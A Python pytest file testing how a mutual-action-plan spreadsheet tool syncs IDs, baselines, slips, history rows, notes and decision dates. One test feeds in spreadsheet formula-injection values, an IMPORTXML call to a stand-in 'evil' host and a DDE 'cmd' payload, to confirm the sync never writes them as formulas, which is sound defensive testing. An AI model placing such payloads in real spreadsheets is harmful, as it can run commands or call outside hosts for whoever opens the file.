"""The sync planned as data: IDs, baselines, slips, History, notes and undone edits — in memory."""

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta

import pytest

from map_workspace import app
from map_workspace.changes import apply_in_memory, note_block
from map_workspace.config import Config
from map_workspace.domain.model import Person
from map_workspace.layout import (
    CLOSED_DAYS_COLUMN,
    HISTORY,
    OVERVIEW,
    PLAN,
    PLAN_TAB,
    STAKEHOLDERS,
    STATE,
    TABLE_TABS,
    Cell,
    Owner,
)
from map_workspace.reading import find_table
from map_workspace.sync import plan_sync
from tests.unit.snapshot_edit import SnapshotEditor

CREATED = date(2026, 3, 2)
NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def created():
    req = app.CreateRequest(
        "Acme rollout", date(2026, 6, 30),
        [Person.parse("Dana Tanaka <dana@acme.com>"), Person.parse("Lee Chen <lee@acme.com>")],
        [Person.parse("Sam Rivera <sam@seller.io>")],
        roles={"buyer.cfo": Person.parse("Priya Shah <priya@acme.com>")},
    )
    new = app.build_new_plan(req, Config(), CREATED, NOW)
    snapshot, plan = new.snapshot, new.plan
    return snapshot, plan


def sync(snapshot, today=CREATED):
    return plan_sync(snapshot, today, now=NOW.replace(day=today.day, month=today.month))


def settle(snapshot, today=CREATED):
    """Apply one sync, check the next one plans nothing, return the result and new snapshot."""
    result = sync(snapshot, today)
    after = apply_in_memory(snapshot, result.changes)
    assert sync(after, today).changes.is_empty, sync(after, today).changes.describe()
    return result, after


def history(result, field=None):
    return [h for h in result.changes.history if field is None or h.field == field]


def test_a_new_plan_needs_no_further_changes(created):
    snapshot, plan = created
    assert sync(snapshot).changes.is_empty
    assert {i.id for i in plan.items} >= {"T-01", "M-01"}


def test_new_row_gets_the_next_id_a_baseline_and_a_history_row(created):
    snapshot, plan = created
    ed = SnapshotEditor(snapshot)
    row = ed.add_row(activity="Reference call", owner="Lee Chen", due=date(2026, 4, 10), status="Not started")
    result, after = settle(ed.snapshot)
    tasks = sorted(int(i.id[2:]) for i in plan.items if i.id.startswith("T-"))
    new_id = f"T-{tasks[-1] + 1:02d}"
    ed2 = SnapshotEditor(after)
    assert ed2.value_at(row, "id") == new_id
    assert ed2.value(new_id, "baseline") == date(2026, 4, 10)
    assert any(h.id == new_id and h.field == "Row" and h.to == "Reference call" for h in history(result))


def test_deleted_row_is_logged_and_its_id_never_reused(created):
    snapshot, plan = created
    last = max((i.id for i in plan.items if i.id.startswith("T-")), key=lambda x: int(x[2:]))
    ed = SnapshotEditor(snapshot)
    ed.delete(last)
    result, after = settle(ed.snapshot)
    assert any(h.id == last and h.field == "Row" and "removed" in h.note for h in history(result))
    ed = SnapshotEditor(after)
    row = ed.add_row(activity="Something new", owner="Lee Chen", due=date(2026, 4, 10))
    _, after2 = settle(ed.snapshot)
    assert SnapshotEditor(after2).value_at(row, "id") == f"T-{int(last[2:]) + 1:02d}"


def test_slips_are_counted_only_when_the_due_date_moves_later(created):
    snapshot, plan = created
    ms = next(i for i in plan.items if i.is_milestone and i.due and i.due > CREATED + timedelta(days=30))
    ed = SnapshotEditor(snapshot)
    ed.set(ms.id, "due", ms.due + timedelta(days=7))
    result, after = settle(ed.snapshot)
    ed = SnapshotEditor(after)
    assert ed.value(ms.id, "slips") == 1
    assert ed.value(ms.id, "baseline") == ms.due
    slip = history(result, "Due")[0]
    assert (slip.id, slip.from_, slip.to) == (ms.id, ms.due.isoformat(), (ms.due + timedelta(days=7)).isoformat())
    ed.set(ms.id, "due", ms.due + timedelta(days=3))  # earlier again: not a slip
    result, after = settle(ed.snapshot)
    assert SnapshotEditor(after).value(ms.id, "slips") == 1
    assert "earlier" in history(result, "Due")[0].note
    ed = SnapshotEditor(after)
    ed.set(ms.id, "due", ms.due + timedelta(days=14))
    result, after = settle(ed.snapshot)
    assert SnapshotEditor(after).value(ms.id, "slips") == 2
    assert "slip.milestone_repeated" in {f.code for f in result.findings}


def test_status_and_owner_changes_are_logged_and_buyer_text_kept(created):
    snapshot, plan = created
    item = plan.items[0]
    ed = SnapshotEditor(snapshot)
    ed.set(item.id, "status", "complete")
    ed.set(item.id, "owner", "Lee Chen")
    result, after = settle(ed.snapshot)
    assert [(h.from_, h.to) for h in history(result, "Status")] == [("Not started", "Done")]
    assert [(h.id, h.to) for h in history(result, "Owner")] == [(item.id, "Lee Chen")]
    assert SnapshotEditor(after).value(item.id, "status") == "complete"  # left as typed


def test_edits_to_sync_owned_cells_are_undone_and_logged(created):
    snapshot, plan = created
    item = plan.items[1]
    ed = SnapshotEditor(snapshot)
    ed.set(item.id, "baseline", date(2030, 1, 1))
    ed.set(item.id, "slips", 9)
    ed.set(item.id, "flag", "all good!")
    result, after = settle(ed.snapshot)
    ed = SnapshotEditor(after)
    assert ed.value(item.id, "baseline") == item.baseline
    assert ed.value(item.id, "slips") == 0
    assert ed.formula(item.id, "flag").startswith("=")
    undone = {h.field for h in history(result) if "undone" in h.note}
    assert undone == {"Baseline", "Slips", "Flag"}


def test_a_copied_row_gets_its_own_id(created):
    snapshot, plan = created
    item = plan.items[2]
    ed = SnapshotEditor(snapshot)
    row = ed.add_row(id=item.id, activity=item.activity + " (copy)", owner="Lee Chen", due=date(2026, 4, 1))
    result, after = settle(ed.snapshot)
    new_id = SnapshotEditor(after).value_at(row, "id")
    assert new_id != item.id and new_id.startswith(item.id[0])
    assert any(h.field == "ID" and h.from_ == item.id for h in history(result))


def test_notes_added_on_problem_cells_and_removed_when_fixed_keeping_the_buyers_note(created):
    snapshot, plan = created
    item = next(i for i in plan.items if i.owner)
    ed = SnapshotEditor(snapshot)
    ed.set(item.id, "owner", "the IT team")
    ed.note(item.id, "owner", "Dana: we will decide on Monday")
    result, after = settle(ed.snapshot)
    note = SnapshotEditor(after).note(item.id, "owner")
    assert note.startswith("Dana: we will decide on Monday")
    assert any("group, not a person" in line for line in note_block(note))
    assert "Needs owner" in SnapshotEditor(after).formula(item.id, "flag")
    ed = SnapshotEditor(after)
    ed.set(item.id, "owner", "Lee Chen")
    result, after = settle(ed.snapshot)
    assert SnapshotEditor(after).note(item.id, "owner") == "Dana: we will decide on Monday"
    assert "Needs owner" not in SnapshotEditor(after).formula(item.id, "flag")


def test_the_changeset_never_writes_a_buyer_cell(created):
    snapshot, plan = created
    ed = SnapshotEditor(snapshot)
    for i, item in enumerate(plan.items[:8]):
        ed.set(item.id, "owner", ["IT", "", "TBD", "Dana and Lee", "Jo Bloggs", "Dana", "Acme", "x"][i])
        ed.set(item.id, "due", ["next Friday", "Q3", "", date(1900, 1, 1), "2026-02-30", "TBD", 5, "?"][i])
        ed.set(item.id, "status", ["wip", "✅", "soon", "", "garbage", "N/A", "Blocked", "done!"][i])
    ed.add_row(activity="=IMPORTXML(\"http://evil\",\"//a\")", owner="@SUM(1)", due="+cmd|' /C calc'!A0")
    result = sync(ed.snapshot)
    buyer_cols = {PLAN: {c.key for c in PLAN_TAB.columns if c.owner is Owner.BUYER}}
    for write in result.changes.cells:
        if write.tab == STATE and write.field == "closed_days":
            assert write.col == CLOSED_DAYS_COLUMN  # the plan's closed days, beside the hidden state
        elif write.tab in TABLE_TABS:
            spec = TABLE_TABS[write.tab]
            assert write.field in {c.key for c in spec.columns if c.owner is Owner.SYNC}, write
        else:
            assert write.tab == OVERVIEW and write.col == 1
        assert write.formula is None or "IMPORTXML" not in write.formula
    assert buyer_cols
    _, after = settle(ed.snapshot)
    assert SnapshotEditor(after).value_at(ed.rows[-1], "activity").startswith("=IMPORTXML")


def test_history_entries_carry_an_iso_timestamp_with_offset(created):
    snapshot, plan = created
    ed = SnapshotEditor(snapshot)
    ed.set(plan.items[0].id, "status", "Done")
    result, after = settle(ed.snapshot)
    when = history(result)[0].when
    assert datetime.fromisoformat(when).utcoffset() is not None
    grid = after.tabs[HISTORY]
    assert grid.rows[-1][3].value == "Status"  # When · ID · Activity · Field


def test_overview_last_changed_is_stamped_only_when_something_changed(created):
    snapshot, plan = created
    ed = SnapshotEditor(snapshot)
    ed.set(plan.items[0].id, "status", "Done")
    result = sync(ed.snapshot)
    assert any(w.field == "last_changed" for w in result.changes.cells)
    assert not any(w.field == "last_changed" for w in sync(snapshot).changes.cells)


def test_a_done_item_gets_at_most_info_for_what_is_left_wrong_on_its_row(created):
    snapshot, plan = created
    first, second = plan.items[0].id, plan.items[1].id
    ed = SnapshotEditor(snapshot)
    ed.set(first, "status", "Done")
    ed.set(first, "due", "next Fri")
    ed.set(first, "done_on", "whenever")
    ed.set(second, "due", "next Fri")
    findings = sync(ed.snapshot).findings
    done = {(f.code, f.field, f.severity.value) for f in findings if f.id == first}
    assert done == {("date.unparseable", "due", "info"), ("date.unparseable", "done_on", "info")}
    assert [f.severity.value for f in findings if f.id == second and f.code == "date.unparseable"] == ["error"]



def test_owns_counts_each_of_two_people_in_one_owner_cell(created):
    snapshot, plan = created
    def owns(snap):
        grid = snap.tabs[STAKEHOLDERS]
        cols = find_table(grid, TABLE_TABS[STAKEHOLDERS]).columns
        return {r[cols["name"]].value: r[cols["owns"]].value for r in grid.rows[1:] if r[cols["name"]].value}

    first = plan.items[0].id
    expected = owns(snapshot)
    expected[sync(snapshot).assessment.owners[first]] -= 1
    expected["Priya Shah"] += 1
    expected["Lee Chen"] += 1
    ed = SnapshotEditor(snapshot)
    ed.set(first, "owner", "Priya Shah & Lee Chen")
    _, after = settle(ed.snapshot)
    assert owns(after) == expected


def test_an_availability_cell_mapws_cannot_read_gets_a_finding_and_a_note(created):
    snapshot, _ = created
    grid = snapshot.tabs[STAKEHOLDERS]
    cols = find_table(grid, TABLE_TABS[STAKEHOLDERS]).columns
    rows = [list(r) for r in grid.rows]
    while len(rows[1]) <= cols["availability"]:
        rows[1].append(Cell())
    rows[1][cols["availability"]] = Cell("out sometime in Q2")
    edited = replace(snapshot, tabs={**snapshot.tabs, STAKEHOLDERS: replace(grid, rows=tuple(map(tuple, rows)))})
    result, after = settle(edited)
    found = [f for f in result.findings if f.code == "availability.unreadable"]
    name = rows[1][cols["name"]].value
    assert [(f.tab, f.cell, f.severity.value) for f in found] == [
        ("Stakeholders", f"{chr(ord('A') + cols['availability'])}2", "warning")]
    assert found[0].message.startswith(f"{name}'s availability 'out sometime in Q2'")
    assert note_block(after.tabs[STAKEHOLDERS].rows[1][cols["availability"]].note)


def _overview_edit(snapshot, **values):
    """The snapshot with Overview fields (by label) set as a buyer types them."""
    from map_workspace.layout import OVERVIEW_FIELDS

    labels = {f.label: f.key for f in OVERVIEW_FIELDS}
    rows = [list(r) for r in snapshot.tabs[OVERVIEW].rows]
    for row in rows:
        key = labels.get(row[0].text if row else "")
        if key in values:
            row[1] = Cell(values[key], None, row[1].note)
    grid = replace(snapshot.tabs[OVERVIEW], rows=tuple(map(tuple, rows)))
    return replace(snapshot, tabs={**snapshot.tabs, OVERVIEW: grid})


def _overview_text(snapshot, label):
    return next(r[1].value for r in snapshot.tabs[OVERVIEW].rows if r and r[0].text == label)


def test_a_moved_target_decision_date_is_logged_reported_and_kept_in_step(created):
    snapshot, plan = created
    decision = next(i for i in plan.items if i.is_milestone and "decision" in i.activity.lower())
    assert decision.due == date(2026, 6, 30)
    mutual = _overview_text(snapshot, "Mutual goal")
    seller = _overview_text(snapshot, "Seller goal")
    assert "2026-06-30" in mutual and "2026-06-30" in seller
    typed = "We decide by 2026-06-30 at the latest."  # the buyer's own words quoting the old date
    edited = _overview_edit(snapshot, target_decision=date(2026, 6, 12), buyer_goal=typed)
    result, after = settle(edited, date(2026, 3, 9))
    logged = [(h.field, h.from_, h.to) for h in history(result)]
    assert ("Target decision date", "2026-06-30", "2026-06-12") in logged
    assert ("Due", "2026-06-30", "2026-06-12") in [(f, a, b) for f, a, b in logged if f == "Due"]
    late = [i.id for i in plan.items if i.due and date(2026, 6, 12) < i.due and i.id != decision.id]
    assert late
    found = [f for f in result.findings if f.code == "decision.target_moved"]
    assert [(f.severity.value, f.tab, f.field) for f in found] == [("warning", "Overview", "target_decision")]
    assert found[0].message == (f"The target decision date moved from 2026-06-30 to 2026-06-12: {', '.join(late)} "
                                f"{'is' if len(late) == 1 else 'are'} now due after it.")
    assert "mapws replan PLAN --item ID --due DATE" in found[0].hint  # the command that moves them, with dependents
    # Kept in step: the decision milestone and the goal texts mapws wrote; the buyer's own words stay.
    assert SnapshotEditor(after).value(decision.id, "due") == date(2026, 6, 12)
    assert _overview_text(after, "Mutual goal") == mutual.replace("2026-06-30", "2026-06-12")
    assert _overview_text(after, "Seller goal") == seller.replace("2026-06-30", "2026-06-12")
    assert _overview_text(after, "Buyer goal") == typed
    # Reported once: the next sync has nothing to say about it.
    assert not [f for f in sync(after, date(2026, 3, 9)).findings if f.code == "decision.target_moved"]


def test_a_moved_target_leaves_a_decision_milestone_someone_moved_and_a_goal_someone_edited(created):
    snapshot, plan = created
    decision = next(i for i in plan.items if i.is_milestone and "decision" in i.activity.lower())
    mutual = _overview_text(snapshot, "Mutual goal")
    ed = SnapshotEditor(snapshot)
    ed.set(decision.id, "due", date(2026, 7, 3))
    edited = _overview_edit(ed.snapshot, target_decision=date(2026, 7, 10), mutual_goal=mutual + " Together.")
    result, after = settle(edited, date(2026, 3, 9))
    assert SnapshotEditor(after).value(decision.id, "due") == date(2026, 7, 3)
    assert _overview_text(after, "Mutual goal") == mutual + " Together."
    found = [f for f in result.findings if f.code == "decision.target_moved"]
    assert [(f.severity.value, f.message) for f in found] == [
        ("info", "The target decision date moved from 2026-06-30 to 2026-07-10; every open item is due by then.")]
    assert "mapws replan PLAN --decision-date 2026-07-10" in found[0].hint  # what follows the decision moves too
    # Back to the first date later on: logged and moved again, from the date the plan had.
    result, _ = settle(_overview_edit(after, target_decision=date(2026, 6, 30)), date(2026, 3, 10))
    assert [(h.from_, h.to) for h in history(result, "Target decision date")] == [("2026-07-10", "2026-06-30")]


def test_a_plan_made_before_the_target_was_remembered_compares_with_the_decision_baseline(created):
    snapshot, _ = created
    older = replace(snapshot, meta={k: v for k, v in snapshot.meta.items()
                                    if k not in ("target_decision", "goal_digests")})
    assert sync(older).changes.is_empty  # nothing moved: nothing to write
    result, after = settle(_overview_edit(older, target_decision=date(2026, 7, 10)))
    assert [(h.from_, h.to) for h in history(result, "Target decision date")] == [("2026-06-30", "2026-07-10")]
    assert after.meta["target_decision"] == "2026-07-10"
